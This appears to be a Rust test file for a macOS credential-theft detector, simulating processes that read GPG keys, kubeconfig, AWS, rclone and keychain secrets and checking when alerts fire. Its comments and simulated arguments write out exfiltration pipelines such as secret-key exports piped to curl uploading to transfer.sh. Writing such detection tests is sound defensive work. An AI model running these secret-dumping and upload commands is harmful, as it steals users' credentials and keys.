//! Programs that print a secret, or hand it to whoever asks, and where it goes from there.

use super::world::*;

const ZSH: Program = apple("/bin/zsh", "com.apple.zsh");
const CURL: Program = apple("/usr/bin/curl", "com.apple.curl");
const LOGIN: &str = "/Users/alice/Library/Keychains/login.keychain-db";

/// The agent of newer gpg reads the keys that gpg is asked for: `gpg --export-secret-keys | curl -d @- ..`.
#[test]
fn keys_that_an_agent_reads_for_the_program_that_prints_them() {
    const GPG: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg", "gpg");
    const AGENT: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg-agent", "gpg-agent");
    let told = |args: &[&str], env: &[&str]| {
        let mut w = World::new();
        let agent = w.launch(0.0, AGENT, &["gpg-agent", "--homedir", "/Users/alice/.gnupg", "--daemon"]);
        let shell = w.launch(0.1, ZSH, &["-zsh"]);
        let child = w.fork(1.0, &shell);
        let env = [&["HOME=/Users/alice"][..], env].concat();
        let gpg = w.exec_in(1.01, &child, GPG, args, "/Users/alice", &[(1, 80)], &env);
        let curl = w.piped(1.1, &shell, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], &[(0, 80)]);
        w.ask_socket(1.2, &gpg, "/Users/alice/.gnupg/S.gpg-agent");
        w.open(1.3, &agent, "/Users/alice/.gnupg/private-keys-v1.d/0123456789.key");
        w.upload(2.0, &curl, "transfer.sh", 6_000);
        w.tell()
    };
    for (args, env) in [
        (&["gpg", "--armor", "--export-secret-keys", "alice"][..], &[][..]),
        (&["gpg", "--export-secret-subkeys"], &[]),
        (&["gpgsm", "--export-secret-key-p12", "alice"], &[]),
        (&["gpg", "--homedir", "/Users/alice/.gnupg", "--export-secret-keys"], &[]),
        (&["gpg", "--export-secret-keys"], &["GNUPGHOME=/Users/alice/.gnupg"]),
    ] {
        let told = told(args, env);
        assert_eq!(
            told.alert().reads[0].path.to_string(),
            "/Users/alice/.gnupg/private-keys-v1.d",
            "{args:?}"
        );
    }
    for (args, env) in [
        (&["gpg", "--armor", "--export", "alice"][..], &[][..]),
        (&["gpg", "-d", "/tmp/x.gpg"], &[]),
        (&["gpg", "--sign", "/tmp/x"], &[]),
        (&["gpg", "--homedir", "/tmp/ring", "--export-secret-keys"], &[]),
        (&["gpg", "--export-secret-keys"], &["GNUPGHOME=/tmp/ring"]),
    ] {
        told(args, env).none();
    }
}

/// What may read a key in order to use it is told to print it: `kubectl config view --raw | curl -d @- ..`.
#[test]
fn programs_that_print_their_keys() {
    const AWS: Program = vendor("/usr/local/aws-cli/aws", "com.amazon.aws.cli2", "94KV3E626L");
    const KUBECTL: Program = vendor("/usr/local/bin/kubectl", "kubectl", "EQHXZ8M8AV");
    const GH: Program = adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh");
    const GPG: Program = adhoc("/opt/homebrew/Cellar/gnupg/2.4.7/bin/gpg", "gpg");
    const RCLONE: Program = adhoc("/opt/homebrew/Cellar/rclone/1.68.2/bin/rclone", "rclone");
    for (program, args, key, prints) in [
        (KUBECTL, &["kubectl", "config", "view", "--raw"][..], ".kube/config", true),
        (
            KUBECTL,
            &["kubectl", "config", "view", "--flatten", "--minify", "--raw=true"],
            ".kube/config",
            true,
        ),
        (KUBECTL, &["kubectl", "get", "pods", "-o", "json"], ".kube/config", false),
        (AWS, &["aws", "configure", "export-credentials", "--profile", "x"], ".aws/credentials", true),
        (AWS, &["aws", "configure", "get", "aws_secret_access_key"], ".aws/credentials", true),
        (AWS, &["aws", "sts", "get-caller-identity"], ".aws/credentials", false),
        (AWS, &["aws", "s3", "cp", "s3://corp-backup/x", "-"], ".aws/credentials", false),
        (GH, &["gh", "pr", "list", "--json", "title"], ".config/gh/hosts.yml", false),
        (GPG, &["gpg", "--armor", "--export-secret-keys", "alice"], ".gnupg/secring.gpg", true),
        (GPG, &["gpg", "-c", "-o", "-", "/tmp/x"], ".gnupg/secring.gpg", false),
        (RCLONE, &["rclone", "config", "dump"], ".config/rclone/rclone.conf", true),
        (RCLONE, &["rclone", "cat", "corp-s3:corp-backup/x"], ".config/rclone/rclone.conf", false),
    ] {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let printer = w.piped(1.0, &shell, program, args, &[(1, 80)]);
        let curl = w.piped(1.1, &shell, CURL, &["curl", "-d", "@-", "https://transfer.sh/"], &[(0, 80)]);
        w.open(1.2, &printer, &format!("/Users/alice/{key}"));
        w.upload(2.0, &curl, "transfer.sh", 6_000);
        let told = w.tell();
        assert_eq!(told.alerts().is_empty(), !prints, "{args:?}");
        if prints {
            told.alert();
        }
    }
    // A token that a log-in is made with stays with those who may have it.
    let mut w = World::new();
    let shell = w.launch(0.0, ZSH, &["-zsh"]);
    let token = w.piped(1.0, &shell, AWS, &["aws", "ecr", "get-login-password"], &[(1, 81)]);
    let docker = w.piped(
        1.1,
        &shell,
        vendor("/usr/local/bin/docker", "docker", "9BNSXJN65R"),
        &["docker", "login", "-u", "AWS", "--password-stdin", "1.dkr.ecr.eu-west-1.amazonaws.com"],
        &[(0, 81)],
    );
    w.open(1.2, &token, "/Users/alice/.aws/credentials");
    w.upload(2.0, &docker, "1.dkr.ecr.eu-west-1.amazonaws.com", 6_000);
    w.tell().none();
}

// Everyday work.

/// Tokens that lie in the keychain: `security` fetches them for gh, a helper for docker; for a thief it does not.
#[test]
fn tokens_in_the_keychain() {
    let security = apple("/usr/bin/security", "com.apple.security");
    let told = |program: Program, helper: Program, host: &str| {
        let mut w = World::new();
        let shell = w.launch(0.0, ZSH, &["-zsh"]);
        let tool = w.spawn(1.0, &shell, program, &["tool", "upload"]);
        let args = &["security", "find-generic-password", "-s", "gh:github.com", "-wa", "alice"];
        let helper = w.piped(1.1, &tool, helper, args, &[(0, 90), (1, 91)]);
        w.open(1.2, &helper, LOGIN);
        w.exit(1.3, &helper);
        w.upload(2.0, &tool, host, 900_000);
        w.tell()
    };
    let gh = adhoc("/opt/homebrew/Cellar/gh/2.63.0/bin/gh", "gh");
    told(gh, security, "uploads.github.com").none();
    let docker = adhoc("/opt/homebrew/Cellar/docker/27.4.0/bin/docker", "docker");
    let helper = "/opt/homebrew/Cellar/docker-credential-helper/0.8.2/bin/docker-credential-osxkeychain";
    told(docker, adhoc(helper, "helper"), "ghcr.io").none();
    let thief = adhoc("/Users/alice/Downloads/x", "x");
    told(thief, security, "uploads.github.com").alert();
    told(thief, adhoc("/Users/alice/Downloads/docker-credential-osxkeychain", "helper"), "ghcr.io").alert();
}

/// Who asks a program something reads its answer while it lives; in a pipeline of a shell's, somebody else does.
#[test]
fn the_answer_of_a_program_that_is_asked() {
    let cat = apple("/bin/cat", "com.apple.cat");
    for (asks, told) in [(&[(0, 90), (1, 91)][..], true), (&[(1, 91)], false), (&[(0, 90)], false)] {
        let mut w = World::new();
        let python = w.launch(0.0, adhoc("/Users/alice/x", "x"), &["x"]);
        let helper = w.piped(1.0, &python, cat, &["cat", "-"], asks);
        w.open(1.2, &helper, "/Users/alice/.ssh/id_rsa");
        w.upload(2.0, &python, "transfer.sh", 9_000);
        let story = w.tell();
        if told { _ = story.alert() } else { story.none() }
    }
    // The part that reads comes later.
    let mut w = World::new();
    let python = w.launch(0.0, adhoc("/Users/alice/x", "x"), &["x"]);
    let first = w.piped(1.0, &python, cat, &["cat", "-"], &[(0, 90), (1, 91)]);
    w.piped(1.1, &python, apple("/usr/bin/wc", "com.apple.wc"), &["wc"], &[(0, 91)]);
    w.open(1.2, &first, "/Users/alice/.ssh/id_rsa");
    w.upload(2.0, &python, "transfer.sh", 9_000);
    w.tell().none();
}
